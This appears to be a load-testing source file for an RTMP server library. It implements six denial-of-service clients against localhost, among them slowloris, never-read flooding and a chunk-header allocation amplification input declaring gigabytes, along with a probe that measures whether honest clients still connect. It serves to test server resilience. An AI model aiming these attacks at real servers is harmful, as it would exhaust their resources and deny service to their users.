/**
 * The hostile clients of `scripts/load_serve.ts`, and the probe that checks new clients still
 * get in. Each attack keeps a number of connections open on raw sockets and opens a new one
 * whenever the server closes one, until it is stopped:
 *
 * - `slowloris`: TCP connections that send C0+C1 one byte a second, never finishing the
 *   handshake.
 * - `idle`: TCP connections that send nothing at all.
 * - `unread`: clients that connect and then send createStream calls and ping requests as fast
 *   as the server takes them, and never read a reply.
 * - `churn`: clients that declare 8 MiB messages (the server's limit) on two chunk streams and,
 *   after 128 bytes, declare them again, over and over for as long as the attack runs; every
 *   other one does it before connect (where a server should only take small messages).
 * - `partial`: clients that connect, then send two 8 MiB messages but their last byte each, the
 *   bytes actually sent, and hold them.
 * - `amplify`: the allocation amplification input, `03 000000 ffffff 14 00000000` and 128 zero
 *   bytes, repeated 1000 times per write (140 KB declaring 16 GiB), before connect on every
 *   other connection and after it on the others.
 *
 * @module
 */

import { decodeAmf0, encodeAmf0 } from "../src/amf/mod.ts";
import { ChunkDecoder, ChunkEncoder } from "../src/chunk/mod.ts";
import { ClientHandshake } from "../src/handshake/mod.ts";
import { encodeSetChunkSize, encodeUserControl, UserControlEvent } from "../src/message/mod.ts";
import { ClientSession } from "../src/session/client_session.ts";
import { RtmpClient } from "../src/session/rtmp_client.ts";
import { ReadTimeoutTransport } from "../transports/read_timeout.ts";
import { DenoTcpTransport } from "../transports/tcp.ts";

/** The attacks, in the order `all` runs them. */
export const ATTACKS = ["slowloris", "idle", "unread", "churn", "partial", "amplify"] as const;
/** One attack's name. */
export type AttackName = typeof ATTACKS[number];

/** Connections opened at once while an attack fills its pool. */
const OPEN_CONCURRENCY = 32;
/** Pause after a failed connect (the server's backlog was full, or it refused). */
const RETRY_MS = 50;
/** Seconds between two bytes of a slowloris handshake. */
const TRICKLE_MS = 1000;
/** createStream calls and pings per write of the unread attack. */
const UNREAD_BATCH = 500;
/** Declared length of the churn attack's messages: the server's default limit. */
const CHURN_DECLARED = 8 * 1024 * 1024;
/** Bytes of each declared message the churn attack sends before declaring it again. */
const CHURN_BODY = 128;
/**
 * Chunk streams the churn attack re-declares its messages on: two, the partial messages a
 * server allows one connection, so that a connection is not closed for the bytes in flight and
 * keeps re-declaring for as long as the attack runs.
 */
const CHURN_STREAMS = 2;
/** Re-declarations per write of the churn attack. */
const CHURN_BATCH = 256;
/** Declared length of the amplification input's messages: the 24-bit maximum. */
const AMPLIFY_DECLARED = 0xffffff;
/** Body bytes after each header of the amplification input. */
const AMPLIFY_BODY = 128;
/** Headers per write of the amplification input. */
const AMPLIFY_BATCH = 1000;
/** A probe that has not connected after this long counts as locked out. */
export const PROBE_TIMEOUT_MS = 10_000;

/** What an attack did. */
export interface AttackStats {
  /** Connections opened. */
  opened: number;
  /** Connections the server closed while the attack ran. */
  closedByServer: number;
  /** Connect attempts that failed (refused, reset before accept). */
  connectFailures: number;
  /** Bytes the attack sent. */
  bytesSent: number;
  /**
   * Messages the attack sent whole: createStream calls and pings (unread), message headers
   * (churn, amplify), held messages (partial).
   */
  messages: number;
}

/** A running attack: stop it to close every connection it holds. */
export interface RunningAttack {
  readonly stats: AttackStats;
  /** Connections open now. */
  readonly open: number;
  /** Stops opening, closes everything, resolves when every connection loop ended. */
  stop(): Promise<void>;
}

/** Where the attack goes and how big it is. */
export interface AttackOptions {
  readonly port: number;
  /** Connections held at once. */
  readonly connections: number;
}

interface AttackContext {
  readonly port: number;
  readonly stats: AttackStats;
  running: boolean;
  readonly stopped: Promise<void>;
  readonly conns: Set<Deno.TcpConn>;
  readonly slots: { acquire(): Promise<void>; release(): void };
}

/** Starts `name` against 127.0.0.1:`port`. */
export function startAttack(name: AttackName, options: AttackOptions): RunningAttack {
  let stop!: () => void;
  const ctx: AttackContext = {
    port: options.port,
    stats: { opened: 0, closedByServer: 0, connectFailures: 0, bytesSent: 0, messages: 0 },
    running: true,
    stopped: new Promise((resolve) => (stop = resolve)),
    conns: new Set(),
    slots: semaphore(OPEN_CONCURRENCY),
  };
  const slot = SLOTS[name];
  const loops = Array.from({ length: options.connections }, (_, i) => slotLoop(ctx, i, slot));
  return {
    stats: ctx.stats,
    get open() {
      return ctx.conns.size;
    },
    async stop() {
      ctx.running = false;
      stop();
      for (const conn of ctx.conns) closeQuietly(conn);
      await Promise.all(loops);
    },
  };
}

/** One connection's life in an attack: resolves when the server closed it or the attack ended. */
type Slot = (ctx: AttackContext, conn: Deno.TcpConn, index: number) => Promise<void>;

const SLOTS: Record<AttackName, Slot> = {
  slowloris: async (ctx, conn) => {
    const c0c1 = new Uint8Array(1537);
    c0c1[0] = 3;
    const closed = untilClosed(conn);
    for (let i = 0; i < c0c1.length && ctx.running; i++) {
      if (!(await send(ctx, conn, c0c1.subarray(i, i + 1)))) break;
      if (await Promise.race([closed.then(() => true), pause(ctx, TRICKLE_MS)])) break;
    }
    await Promise.race([closed, ctx.stopped]);
  },
  idle: async (ctx, conn) => {
    await Promise.race([untilClosed(conn), ctx.stopped]);
  },
  unread: async (ctx, conn) => {
    if (!(await handshake(ctx, conn))) return;
    const encoder = new ChunkEncoder();
    command(encoder, "connect", 1, { app: "live", tcUrl: `rtmp://127.0.0.1:${ctx.port}/live` });
    if (!(await send(ctx, conn, encoder.takeOutput()))) return;
    for (let i = 0; i < UNREAD_BATCH; i++) {
      if (i % 2 === 0) command(encoder, "createStream", 2 + i, null);
      else encoder.write(encodeUserControl(UserControlEvent.PingRequest, [i]));
    }
    const batch = encoder.takeOutput();
    while (ctx.running && (await send(ctx, conn, batch))) ctx.stats.messages += UNREAD_BATCH;
  },
  churn: async (ctx, conn, index) => {
    if (!(await handshake(ctx, conn))) return;
    if (index % 2 === 1 && !(await connect(ctx, conn))) return;
    const parts: Uint8Array[] = [];
    for (let i = 0; i < CHURN_BATCH; i++) {
      parts.push(fmt0Header(3 + (i % CHURN_STREAMS), CHURN_DECLARED), new Uint8Array(CHURN_BODY));
    }
    const batch = concat(parts);
    while (ctx.running && (await send(ctx, conn, batch))) ctx.stats.messages += CHURN_BATCH;
  },
  partial: async (ctx, conn) => {
    if (!(await handshake(ctx, conn)) || !(await connect(ctx, conn))) return;
    // Two 8 MiB messages, all but their last byte sent (in one chunk each), then nothing.
    const encoder = new ChunkEncoder();
    encoder.write(encodeSetChunkSize(CHURN_DECLARED - 1));
    if (!(await send(ctx, conn, encoder.takeOutput()))) return;
    const body = heldBody();
    for (const csid of [4, 5]) {
      const header = fmt0Header(csid, CHURN_DECLARED);
      if (!(await send(ctx, conn, header)) || !(await send(ctx, conn, body))) return;
      ctx.stats.messages++;
    }
    await Promise.race([untilClosed(conn), ctx.stopped]);
  },
  amplify: async (ctx, conn, index) => {
    if (!(await handshake(ctx, conn))) return;
    if (index % 2 === 1 && !(await connect(ctx, conn))) return;
    const batch = amplificationInput();
    while (ctx.running && (await send(ctx, conn, batch))) ctx.stats.messages += AMPLIFY_BATCH;
  },
};

/**
 * Sends connect and waits for the server's answer (reading what comes until the connect
 * `_result`); false when the server closed the connection first.
 */
async function connect(ctx: AttackContext, conn: Deno.TcpConn): Promise<boolean> {
  const encoder = new ChunkEncoder();
  command(encoder, "connect", 1, { app: "live", tcUrl: `rtmp://127.0.0.1:${ctx.port}/live` });
  if (!(await send(ctx, conn, encoder.takeOutput()))) return false;
  const decoder = new ChunkDecoder();
  const buffer = new Uint8Array(8192);
  let answered = false;
  while (!answered) {
    let n: number | null;
    try {
      n = await conn.read(buffer);
    } catch {
      return false;
    }
    if (n === null) return false;
    decoder.push(buffer.subarray(0, n), (message) => {
      if (message.typeId === 20 && decodeAmf0(message.payload)[0] === "_result") answered = true;
    });
  }
  return true;
}

let amplification: Uint8Array | undefined;
/** The amplification input (one buffer for every connection). */
function amplificationInput(): Uint8Array {
  if (amplification !== undefined) return amplification;
  const parts: Uint8Array[] = [];
  for (let i = 0; i < AMPLIFY_BATCH; i++) {
    const header = fmt0Header(3, AMPLIFY_DECLARED);
    header[7] = 0x14; // a command message, on message stream 0
    header[8] = 0;
    parts.push(header, new Uint8Array(AMPLIFY_BODY));
  }
  return amplification = concat(parts);
}

let held: Uint8Array | undefined;
/** The body of a held message (one buffer for every connection). */
function heldBody(): Uint8Array {
  return held ??= new Uint8Array(CHURN_DECLARED - 1);
}

async function slotLoop(ctx: AttackContext, index: number, slot: Slot): Promise<void> {
  while (ctx.running) {
    await ctx.slots.acquire();
    let conn: Deno.TcpConn | undefined;
    try {
      if (!ctx.running) return;
      conn = await Deno.connect({ hostname: "127.0.0.1", port: ctx.port });
    } catch {
      ctx.stats.connectFailures++;
    } finally {
      ctx.slots.release();
    }
    if (conn === undefined) {
      await pause(ctx, RETRY_MS);
      continue;
    }
    ctx.stats.opened++;
    ctx.conns.add(conn);
    try {
      await slot(ctx, conn, index);
    } catch { /* the server closed it */ }
    ctx.conns.delete(conn);
    closeQuietly(conn);
    if (ctx.running) ctx.stats.closedByServer++;
  }
}

/** Writes all of `bytes`; false once the connection is gone or the attack stopped. */
async function send(ctx: AttackContext, conn: Deno.TcpConn, bytes: Uint8Array): Promise<boolean> {
  try {
    let off = 0;
    while (off < bytes.length) {
      if (!ctx.running) return false;
      off += await conn.write(bytes.subarray(off));
    }
    ctx.stats.bytesSent += bytes.length;
    return true;
  } catch {
    return false;
  }
}

/** Resolves when the server closes `conn` (reads and drops what it sends). */
async function untilClosed(conn: Deno.TcpConn): Promise<void> {
  const buffer = new Uint8Array(4096);
  try {
    while ((await conn.read(buffer)) !== null) { /* drop */ }
  } catch { /* reset or closed here */ }
}

/** A plain client handshake: C0+C1, read S0+S1+S2, send C2. False when the server closed. */
async function handshake(ctx: AttackContext, conn: Deno.TcpConn): Promise<boolean> {
  const hs = new ClientHandshake({ mode: "plain" });
  if (!(await send(ctx, conn, await hs.start()))) return false;
  const buffer = new Uint8Array(8192);
  for (;;) {
    let n: number | null;
    try {
      n = await conn.read(buffer);
    } catch {
      return false;
    }
    if (n === null) return false;
    const step = await hs.receive(buffer.subarray(0, n));
    if (step.send && !(await send(ctx, conn, step.send))) return false;
    if (step.done) return true;
  }
}

function command(encoder: ChunkEncoder, name: string, txn: number, arg: unknown): void {
  encoder.write({
    csid: 3,
    typeId: 20,
    timestamp: 0,
    messageStreamId: 0,
    // deno-lint-ignore no-explicit-any
    payload: encodeAmf0(name, txn, arg as any),
  });
}

/** A fmt-0 chunk header: video message of `length` bytes on message stream 1. */
function fmt0Header(csid: number, length: number): Uint8Array {
  return new Uint8Array([
    csid,
    0,
    0,
    0,
    (length >> 16) & 0xff,
    (length >> 8) & 0xff,
    length & 0xff,
    9,
    1,
    0,
    0,
    0,
  ]);
}

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let off = 0;
  for (const part of parts) {
    out.set(part, off);
    off += part.length;
  }
  return out;
}

function closeQuietly(conn: Deno.TcpConn): void {
  try {
    conn.close();
  } catch { /* already closed */ }
}

/** Sleeps `ms`, or less when the attack stops; resolves to false. */
function pause(ctx: AttackContext, ms: number): Promise<false> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  return Promise.race([
    new Promise<void>((resolve) => (timer = setTimeout(resolve, ms))),
    ctx.stopped,
  ]).then(() => {
    clearTimeout(timer);
    return false;
  });
}

function semaphore(size: number) {
  let free = size;
  const waiting: (() => void)[] = [];
  return {
    acquire(): Promise<void> {
      if (free > 0) {
        free--;
        return Promise.resolve();
      }
      return new Promise((resolve) => waiting.push(resolve));
    },
    release(): void {
      const next = waiting.shift();
      if (next) next();
      else free++;
    },
  };
}

/**
 * A new, honest client: TCP, handshake and connect to 127.0.0.1:`port`. Resolves to the
 * milliseconds it took, or undefined when it did not get in within
 * {@linkcode PROBE_TIMEOUT_MS}.
 */
export async function probe(port: number): Promise<number | undefined> {
  const started = performance.now();
  let transport: DenoTcpTransport | undefined;
  const timer = setTimeout(() => transport?.close(), PROBE_TIMEOUT_MS);
  try {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    transport = new DenoTcpTransport(conn, { hostname: "127.0.0.1", port }, 16 * 1024);
    if (performance.now() - started > PROBE_TIMEOUT_MS) return undefined;
    const session = new ClientSession({
      app: "probe",
      tcUrl: `rtmp://127.0.0.1:${port}/probe`,
      playpath: "probe",
    }, { onMedia: () => {} });
    const client = new RtmpClient(new ReadTimeoutTransport(transport, PROBE_TIMEOUT_MS), session);
    await client.connect();
    const how = await client.pump(() => session.connected);
    const ms = performance.now() - started;
    return how === "done" && ms <= PROBE_TIMEOUT_MS ? ms : undefined;
  } catch {
    return undefined;
  } finally {
    clearTimeout(timer);
    transport?.close();
  }
}

/**
 * Runs one attack in its own process, so that it does not slow down the process that measures:
 * `deno run -A scripts/load_attacks.ts --attack NAME --port P --connections N`. Prints
 * `attacking` once started and, when its stdin closes, stops and prints `stats <json>` (an
 * {@linkcode AttackStats}) with `open <n>`, the connections it held at the end.
 */
if (import.meta.main) {
  const args = new Map<string, string>();
  for (let i = 0; i + 1 < Deno.args.length; i += 2) args.set(Deno.args[i], Deno.args[i + 1]);
  const name = args.get("--attack") as AttackName;
  const port = Number(args.get("--port"));
  const connections = Number(args.get("--connections"));
  if (!(ATTACKS as readonly string[]).includes(name) || !(port > 0) || !(connections > 0)) {
    console.error("Usage: load_attacks.ts --attack NAME --port P --connections N");
    Deno.exit(2);
  }
  const attack = startAttack(name, { port, connections });
  console.log("attacking");
  for await (const _ of Deno.stdin.readable) { /* until the caller closes stdin */ }
  const open = attack.open;
  await attack.stop();
  console.log(`stats ${JSON.stringify({ ...attack.stats, open })}`);
  Deno.exit(0);
}
